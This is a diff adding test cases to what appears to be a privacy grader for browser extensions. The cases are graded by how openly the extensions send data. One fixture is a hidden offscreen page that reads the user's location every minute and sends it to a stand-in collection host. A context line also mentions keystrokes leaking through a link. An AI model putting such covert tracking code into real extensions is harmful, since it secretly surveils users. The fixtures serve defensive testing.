@@ -377,6 +377,31 @@ describe('the grade of what sends data', () => {
       ['A+', 'A', 'B'],
     ],
     [
+      'the place, to a weather service, in its new tab: the browser asked for it when it was installed',
+      {
+        manifest: { permissions: ['geolocation'], chrome_url_overrides: { newtab: 'tab.html' } },
+        files: {
+          'tab.html': '<p id="w"></p><script src="tab.js"></script>',
+          'tab.js':
+            "navigator.geolocation.getCurrentPosition(async (p) => { document.querySelector('#w').textContent = (await (await fetch('https://weather.example/now?lat=' + p.coords.latitude)).json()).now; });",
+        },
+      },
+      ['A+', 'A', 'B'],
+    ],
+    [
+      'the place with that permission, in a page that nobody sees',
+      {
+        manifest: { permissions: ['geolocation', 'offscreen'] },
+        background: "chrome.offscreen.createDocument({ url: 'o.html', reasons: ['GEOLOCATION'], justification: 'x' });",
+        files: {
+          'o.html': '<script src="o.js"></script>',
+          'o.js':
+            "setInterval(() => navigator.geolocation.getCurrentPosition((p) => fetch('https://collect.example/now?lat=' + p.coords.latitude)), 60000);",
+        },
+      },
+      ['D', 'F'],
+    ],
+    [
       'pressed keys, in the address of a link that the script presses',
       {
         content:
